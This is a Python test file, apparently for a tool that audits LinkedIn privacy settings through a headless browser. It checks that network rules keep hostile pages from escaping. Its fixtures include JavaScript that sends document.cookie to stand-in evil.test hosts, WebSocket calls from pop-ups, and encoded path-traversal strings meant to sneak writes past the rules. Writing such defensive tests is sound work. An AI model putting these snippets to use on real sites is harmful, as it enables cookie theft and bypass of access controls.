"""Ways around the network rules that somebody found who was asked to: closed, and kept closed."""

import time

import pytest
from exhaustive import all_with, more
from hostile import API, SETTING, audited, page, reports, tries
from traces import own_folder, program_in

from auditor.demo.imitation import Answer, Scene
from auditor.linkedin.catalog import catalog
from auditor.linkedin.network import NetworkRules
from auditor.linkedin.urls import ORIGIN

REDIRECTED = """
fetch("/leads-to-a-write", {method: "POST", mode: "no-cors", body: "x"}).catch(() => 0);
fetch("/leads-away", {mode: "no-cors"}).catch(() => 0);
"""
WAYS = ["SharedWorker", "RTCPeerConnection", "WebTransport", "WebSocketStream", "PaymentRequest"]
WAYS += ["fetchLater"]
OF_NAVIGATOR = ["credentials", "joinAdInterestGroup", "updateAdInterestGroups", "runAdAuction"]
TAKEN = f"""
fetch("/ran?" + [...{WAYS}.map((way) => typeof globalThis[way]),
  ...{OF_NAVIGATOR}.map((way) => typeof navigator[way])]);
"""
GONE = ",".join(["undefined"] * len(WAYS + OF_NAVIGATOR))
ASKS = "fetch('https://{tag}.evil.test/?' + document.cookie, {{mode: 'no-cors'}}).catch(() => 0);"


def elsewhere(asked):
    """What hostile pages of LinkedIn's hosts find."""
    if asked.path == "/leads-away":
        return Answer(status=302, location="https://redirect.evil.test/")
    if asked.path == "/leads-to-it-in-full":
        return Answer(status=302, location=f"{ORIGIN}./plain")
    if asked.path == "/leads-to-a-write":
        return Answer(status=307, location=API)
    if asked.path == "/process-of-its-own":
        return Answer(
            f"<script>{tries('own')}{REDIRECTED}</script>",
            headers=(("origin-agent-cluster", "?1"),),
        )
    if asked.path == "/data?late":
        return Answer("{}", delay=2)
    if asked.path.startswith(("/ran?", "/plain")):
        return Answer("")
    return Answer(status=204) if asked.path.startswith("/uas/login?") else None


def assert_kept(server, done):
    """Nobody but LinkedIn was asked, and nothing was written."""
    assert {"www.linkedin.com"} == {asked.host for asked in server.seen}
    assert [] == [asked for asked in server.seen if API.endswith(asked.path) and asked.body]
    assert server.imitation.values[SETTING.key] is True
    assert "on" == done.result["state"]


@pytest.mark.parametrize("host", ["static.licdn.com", *more("media.linkedin.com")])
def test_no_page_of_another_origin_is_framed(serve, host):
    """A framed page that would get a process of its own, its redirects unseen, is refused."""
    html = page(more=f'<iframe src="https://{host}/process-of-its-own"></iframe>')
    server, done, _ = audited(serve, html, elsewhere, headers=(("origin-agent-cluster", "?0"),))
    assert_kept(server, done)
    assert set() == reports(server)


@pytest.mark.parametrize(
    "path",
    [
        "/uas/login",
        *more("/plain", "/checkpoint/x/login-restriction", "/checkpoint/challenge", SETTING.path),
    ],
)
def test_a_framed_page_keeps_no_way_around(serve, path):
    """In a frame of LinkedIn's, loaded twice, what no rule sees is missing, or there is no page."""
    script = f"""
    const frame = document.querySelector("iframe");
    frame.onload = () => {{
      frame.onload = () => {{ try {{ frame.contentWindow.eval({TAKEN!r}); }} catch {{ }} }};
      frame.src = "{path}";
    }};
    frame.src = "/plain?1";
    """
    server, done, _ = audited(serve, page(script, "<iframe></iframe>"), elsewhere)
    assert_kept(server, done)
    assert reports(server) <= {GONE}


@pytest.mark.parametrize(
    "script",
    [
        "setTimeout(() => history.pushState(0, '', '/uas/login'), 300);",
        "location.href = '/uas/login?x';",
        *more("setTimeout(() => location.href = '/uas/login?x', 300);"),
    ],
    ids=["an address of its own making", "at once", "a page that does not come"],
)
def test_only_a_page_of_signing_in_that_has_come_opens_the_network(serve, script):
    """Neither an address that the page gives itself nor one that it asks for lets it out."""
    back = f"setTimeout(() => history.replaceState(0, '', '{SETTING.path}'), 1300);"
    after = f"setTimeout(() => {{ {ASKS.format(tag='after')} }}, 800);"
    server, done, _ = audited(serve, page(script + after + back), elsewhere)
    assert_kept(server, done)


def test_a_later_page_cannot_lead_the_tab_away(serve):
    """Once a setting was read, a page that goes to another site does not get there."""
    leads = page("location.href = 'https://away.evil.test/?' + document.cookie;")
    research = catalog().settings["research"].path

    def override(asked):
        return Answer(leads) if asked.path == research else None

    server = serve(Scene("x", signed_in=True), override)
    with own_folder() as folder:
        asked_for = ("audit", "ai-training", "research", "ads-age")
        done = program_in(
            folder, *asked_for, "--headless", "--browser", server.browser, "--json", "-"
        )
    assert {"www.linkedin.com"} == {asked.host for asked in server.seen}
    told = [result["state"] != "unknown" for result in done.report["results"]]
    assert [True, False, True] == told


def test_ways_that_ask_past_the_rules_are_gone(serve):
    """The settings page has none of them."""
    server, done, _ = audited(serve, page(TAKEN), elsewhere)
    assert_kept(server, done)
    assert {GONE} == reports(server)


AWAY = "https://away.evil.test/"
LEADS = {
    "by itself": f"location.href = '{AWAY}'",
    "by a form": "document.forms[0].submit()",
    "by a redirect": "location.href = '/leads-away'",
    "to its host in full": "location.href = '/leads-to-it-in-full'",
    "by another page": "location.href = '/feed/'",
    "by a frame": f"frames[0].eval(`top.location = '{AWAY}'`)",
    "by a mark": "document.head.insertAdjacentHTML('beforeend',"
    f" `<meta http-equiv=refresh content='0;url={AWAY}'>`)",
}


@pytest.mark.parametrize("way", all_with(["by a redirect", "by a frame"], LEADS))
def test_a_page_leads_the_tab_nowhere(serve, way):
    """Before a setting was read, too, no page but one of signing in gets to another site."""

    def override(asked):
        leads = f"<script>location.href = '{AWAY}'</script>"
        return Answer(leads) if asked.path == "/feed/" else elsewhere(asked)

    more = "<form action='https://form.evil.test/'></form><iframe srcdoc=x></iframe>"
    html = page(f"setTimeout(() => {{ {LEADS[way]} }}, 100)", more)
    server, done, _ = audited(serve, html, override, "--timeout", "6")
    assert {"www.linkedin.com"} == {asked.host for asked in server.seen}
    assert done.result["state"] in ("on", "unknown")


POPUP = f"setInterval(() => {{ {ASKS.format(tag='popup')} }}, 100)"
OPENS = """setInterval(() => {
  open("about:blank")?.eval("setInterval(() => new WebSocket('wss://popup.evil.test/'), 100)");
}, 60)"""


@pytest.mark.parametrize("does", [OPENS, *more(POPUP)], ids=["it opens more of them", "it asks"])
def test_a_window_opened_while_signing_in_is_closed_after_it(serve, does):
    """What a sign-in page opened asks nobody any more once the setting's page is there."""
    popup = f"<script>{does}</script>"
    login = (
        "<!doctype html><html lang=en><main>Sign in</main><script>open('/popup');"
        "setTimeout(() => location.href = '/checkpoint/lg/login-submit', 900)</script>"
    )
    since = []

    def override(asked):
        if asked.host == "popup.evil.test" and since:
            since.append("asked" if time.monotonic() - since[0] < 3 else "asked late")
        if asked.path == SETTING.path and "li_at" in asked.cookie:
            since.append(time.monotonic())
        found = {"/popup": Answer(popup), "/data?late": Answer("{}", delay=5)}
        if asked.path.startswith("/uas/login"):
            return Answer(login)
        return found.get(asked.path) or (Answer("") if "evil" in asked.host else None)

    server = serve(Scene("x", value="off"), override)
    server.browser.write_text(  # nobody is there to click, which is what opens windows
        server.browser.read_text().replace('"$@"', '--disable-popup-blocking "$@"')
    )
    with own_folder() as folder:
        done = program_in(folder, "audit", "--headless", "--browser", server.browser, "--json", "-")
    assert "off" == done.result["state"]
    assert "popup.evil.test" in {asked.host for asked in server.seen}, "it was there before"
    assert "asked late" not in since, "but for what was under way when the page came"


@pytest.mark.parametrize(
    "path",
    [
        "/%6dysettings-api/x",
        "/%256dysettings-api/x",
        "//mysettings-api/x",
        "/mysettings-api;v=1/x",
        "/MYSETTINGS-API/x",
        "/mysettings-api%2Fx",
        "/mysettings-api%20/x",
        "/mysettings-api%3Fx",
        "/mysettings-api%00/x",
        "/mysettings-api./x",
        "/mysettings-api,/x",
        "/.%00/mysettings-api/x",
        "/%EF%BC%8Fmysettings-api/x",
        "/%E2%80%8Bmysettings-api/x",
        "/%2525256dysettings-api/x",
        "/x/..%2fmysettings-api/x",
        "/x/%2e%2e/psettings/x",
        "/./mypreferences/x",
        "/mysettings-api/x;x=%2f..%2f..%2f..%2fx",
        "/mysettings-api/x/..%2f..%2f..%2fx",
        "/mysettings-api/x/%252e%252e%252f..%252f..%252fx",
        "/mysettings-api/x%3f/..%2f..%2f..%2f..%2fx",
        "/x/..%2fmysettings-api%2f..%2fx",
    ],
)
def test_a_settings_path_is_known_however_it_is_written(path):
    """A write is refused whatever spelling of the path the page uses."""
    assert not NetworkRules().allows("PUT", ORIGIN + path)
    assert not NetworkRules().allows("PUT", f"{ORIGIN}.{path}")


@pytest.mark.parametrize("method", ["PUT", "PATCH", "DELETE", "JANE"])
def test_signed_in_nothing_is_written_anywhere_at_linkedin(method):
    """Once the setting's page is reached an audit lets through what asks, and no other method."""
    rules, url = NetworkRules(), ORIGIN + "/voyager/api/identity/settings/x"
    assert rules.allows(method, url), "signing in may need it"
    rules.only_linkedin = True
    assert not rules.allows(method, url)
    assert rules.allows("POST", url)
    rules.writes_allowed = True
    assert rules.allows(method, url)
